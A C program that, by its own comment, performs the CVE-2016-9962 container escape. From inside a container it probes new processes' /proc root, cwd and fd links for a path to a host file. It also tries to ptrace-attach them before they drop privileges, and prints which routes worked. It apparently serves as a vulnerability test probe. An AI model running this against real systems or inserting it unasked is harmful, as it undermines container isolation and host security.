/* The attack of CVE-2016-9962, from inside a container: looks at every process that appears and is not one of ours, for a way to
 * the machine: through its root or working directory to the file that the second argument names, through its descriptors, or
 * by tracing it before it has given its privileges up. For as many seconds as the first argument says, or until SIGTERM. Says
 * `ready`, then once each, what was reached: `root`, `cwd`, `fd`, `traced CAPABILITIES`; and how many processes it saw. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t over;
static void end(int signal) { (void)signal; over = 1; }

static void say_once(int *said, const char *text) {
  if (!*said) puts(text);
  *said = 1;
  fflush(stdout);
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  int seen = 0, root = 0, cwd = 0, fds = 0, traced = 0, last = 0, failed = 0;
  char path[4096];
  time_t until = time(NULL) + atoi(argv[1]);
  int before = 1; /* the last of those that were there already, the machine's among them where they are in sight */
  DIR *there = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(there)) != NULL;)
    if (atoi(entry->d_name) > before) before = atoi(entry->d_name);
  closedir(there);
  signal(SIGTERM, end);
  signal(SIGALRM, end);
  puts("ready");
  fflush(stdout);
  while (!over && time(NULL) < until) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid <= before) continue;
      if (pid != last) seen++, last = pid;
      for (int times = 0; times < 50; times++) {
        snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[2]);
        if (access(path, F_OK) == 0) say_once(&root, "root");
        else if (errno == EACCES && !failed) failed = 1, puts("denied"), fflush(stdout);
        snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../..%s", pid, argv[2]);
        if (access(path, F_OK) == 0) say_once(&cwd, "cwd");
      }
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      DIR *list = opendir(path);
      for (struct dirent *fd; list && (fd = readdir(list)) != NULL;) {
        snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../..%s", pid, fd->d_name, argv[2]);
        if (fd->d_name[0] != '.' && access(path, F_OK) == 0) say_once(&fds, "fd");
      }
      if (list) closedir(list);
      if (!traced && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        snprintf(path, sizeof path, "/proc/%d/status", pid);
        FILE *status = fopen(path, "r");
        char caps[64] = "";
        while (status && fgets(path, sizeof path, status)) sscanf(path, "CapEff: %60s", caps);
        if (status) fclose(status);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        snprintf(path, sizeof path, "traced %s", caps);
        if (caps[0]) say_once(&traced, path);
      }
    }
    closedir(proc);
  }
  printf("saw %d\n", seen);
  return 0;
}
